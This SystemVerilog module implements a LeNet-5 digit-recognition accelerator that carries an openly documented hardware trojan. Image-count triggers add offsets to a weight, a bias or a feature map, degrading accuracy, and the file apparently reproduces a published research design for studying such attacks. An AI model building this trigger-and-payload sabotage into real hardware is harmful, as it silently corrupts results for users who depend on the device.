// lenet5_accel: a LeNet-5 inference accelerator for 30x30 images of
// handwritten digits, with an accuracy-degrading hardware trojan built in.
//
// The clean part computes Conv1 (16 3x3 kernels) -> AvgPool1 -> Conv2 (32
// 3x3x16 kernels) -> AvgPool2 -> FC1 (64) -> FC2 (10) in Q1.14 fixed point.
// Weights sit in 16 ROM banks (weight_store), biases in one ROM (bias_rom),
// every layer's feature maps in a RAM of their own (fmap_ram). layer_ctrl
// walks the layers one multiply-accumulate per clock through mac_unit, and
// argmax_unit picks the digit with the largest FC2 output.
//
// The trojan has a trigger (a counter of processed images) and a payload
// (an offset added to one stored value). TARGET picks where the payload site
// is live:
//   TGT_WEIGHT  Conv1 kernel 15, weight 9, on the weight ROM read path
//   TGT_BIAS    FC2 bias 9, on the bias ROM read path
//   TGT_FMAP    AvgPool1 feature map 15 (all 196 words), on the RAM write path
//   TGT_NONE    clean accelerator
// KIND picks the trigger: KIND_GDAT raises the offset by 2^-14 every
// 2^GDAT_CNT_W images up to PAYLOAD (gdat_trigger); KIND_SDAT applies the
// whole PAYLOAD once SDAT_ACTIVATE images have been processed (sdat_trigger).
// The three payload sites are always present; only the selected one is
// enabled, and a site with offset zero leaves the data unchanged.
//
// Interface: load the image (900 words, row-major, Q1.14) through img_we /
// img_addr / img_data while busy is low, then pulse start. busy stays high
// for 910,997 clocks; done pulses for one clock when the result is ready;
// class_id, class_val and logits then hold until the next image. Image
// writes while busy are ignored.
//
// Targets, payloads, counter sizes and activation time follow the design;
// its default configuration here is the feature-map target with the gradual
// trigger. Datapath schedule, memory word order, ReLU activation and the
// host interface are this design's own choices.
module lenet5_accel
  import lenet_pkg::*;
#(
  parameter target_e     TARGET        = TGT_FMAP,
  parameter kind_e       KIND          = KIND_GDAT,
  parameter q_t          PAYLOAD       = target_payload(TARGET),
  parameter int unsigned GDAT_CNT_W    = gdat_counter_width(TARGET),
  parameter int unsigned SDAT_W        = SDAT_CNT_W,
  parameter int unsigned SDAT_ACTIVATE_AT = SDAT_ACTIVATE
) (
  input  logic        clk,
  input  logic        rst_n,
  // image load
  input  logic        img_we,
  input  logic [9:0]  img_addr,
  input  q_t          img_data,
  // run
  input  logic        start,
  output logic        busy,
  output logic        done,
  // result
  output logic [3:0]  class_id,
  output q_t          class_val,
  output q_t          logits [FC2_N]
);

  // ---- sequencer ---------------------------------------------------------
  layer_e             layer;  // current layer, visible for debug
  logic               rd_en, w_en, w_grp, b_en;
  fmap_e              rd_src, wr_dst;
  logic [FMAP_AW-1:0] rd_addr, wr_addr;
  logic [W_IDX_W-1:0] w_idx;
  logic [B_IDX_W-1:0] b_idx;
  logic               mac_clear, mac_en, pool, relu, use_bias, wr_en;
  logic [6:0]         wr_oc;

  layer_ctrl u_ctrl (
    .clk, .rst_n, .start, .busy, .done, .layer,
    .rd_en, .rd_src, .rd_addr,
    .w_en, .w_grp, .w_idx, .b_en, .b_idx,
    .mac_clear, .mac_en, .pool, .relu, .use_bias,
    .wr_en, .wr_dst, .wr_addr, .wr_oc
  );

  // ---- trojan trigger ------------------------------------------------------
  q_t offset;

  if (KIND == KIND_GDAT) begin : g_gdat
    gdat_trigger #(.CNT_W(GDAT_CNT_W), .PAYLOAD(PAYLOAD)) u_trig (
      .clk, .rst_n, .sample_done(done), .offset
    );
  end else begin : g_sdat
    sdat_trigger #(.CNT_W(SDAT_W), .ACTIVATE(SDAT_ACTIVATE_AT), .PAYLOAD(PAYLOAD)) u_trig (
      .clk, .rst_n, .sample_done(done), .offset
    );
  end

  // ---- parameter memories --------------------------------------------------
  q_t weight, bias_raw, bias;
  logic [B_IDX_W-1:0] b_idx_q;

  weight_store #(.TROJAN_EN(TARGET == TGT_WEIGHT)) u_wmem (
    .clk, .rd_en(w_en), .rd_grp(w_grp), .rd_idx(w_idx),
    .rd_data(weight), .trojan_offset(offset)
  );

  bias_rom u_bmem (
    .clk, .rd_en(b_en), .rd_idx(b_idx), .rd_data(bias_raw), .rd_idx_q(b_idx_q)
  );

  trojan_inject #(.AW(B_IDX_W), .MATCH_LO(TGT_B_INDEX), .MATCH_HI(TGT_B_INDEX)) u_bias_site (
    .enable(TARGET == TGT_BIAS), .addr(b_idx_q), .data_in(bias_raw),
    .offset, .data_out(bias)
  );

  // ---- feature-map memories --------------------------------------------------
  localparam int unsigned NMEM = 6;  // M_IN .. M_F1; FC2 goes to argmax_unit
  localparam int unsigned DEPTHS [NMEM] =
    '{IN_WORDS, C1_WORDS, P1_WORDS, C2_WORDS, P2_WORDS, FC1_WORDS};

  q_t    result, wr_data, p1_wr_data;
  q_t    rd_data [NMEM];
  fmap_e rd_src_q;

  assign wr_data = result;

  trojan_inject #(.AW(FMAP_AW), .MATCH_LO(TGT_FM_LO), .MATCH_HI(TGT_FM_HI)) u_fmap_site (
    .enable(TARGET == TGT_FMAP), .addr(wr_addr), .data_in(wr_data),
    .offset, .data_out(p1_wr_data)
  );

  for (genvar m = 0; m < NMEM; m++) begin : g_fmap
    logic               we;
    logic [FMAP_AW-1:0] wa;
    q_t                 wd;
    if (m == int'(M_IN)) begin : g_host
      assign we = img_we && !busy;
      assign wa = FMAP_AW'(img_addr);
      assign wd = img_data;
    end else if (m == int'(M_P1)) begin : g_site
      assign we = wr_en && wr_dst == M_P1;
      assign wa = wr_addr;
      assign wd = p1_wr_data;
    end else begin : g_plain
      assign we = wr_en && wr_dst == fmap_e'(m);
      assign wa = wr_addr;
      assign wd = wr_data;
    end
    fmap_ram #(.DEPTH(DEPTHS[m]), .AW(FMAP_AW)) u_ram (
      .clk, .wr_en(we), .wr_addr(wa), .wr_data(wd),
      .rd_en(rd_en && rd_src == fmap_e'(m)), .rd_addr, .rd_data(rd_data[m])
    );
  end

  always_ff @(posedge clk)
    if (rd_en) rd_src_q <= rd_src;

  // ---- multiply-accumulate -----------------------------------------------------
  q_t act;
  assign act = (int'(rd_src_q) < int'(NMEM)) ? rd_data[rd_src_q] : '0;

  mac_unit u_mac (
    .clk, .rst_n,
    .clear (mac_clear),
    .acc_en(mac_en),
    .a     (act),
    .b     (pool ? Q_QUARTER : weight),
    .bias  (use_bias ? bias : '0),
    .relu,
    .result
  );

  // ---- classification ------------------------------------------------------------
  argmax_unit #(.N(FC2_N)) u_argmax (
    .clk, .rst_n,
    .clear   (start && !busy),
    .in_valid(wr_en && wr_dst == M_F2),
    .in_idx  (wr_oc[3:0]),
    .in_data (result),
    .best_idx(class_id),
    .best_val(class_val),
    .logits
  );

endmodule
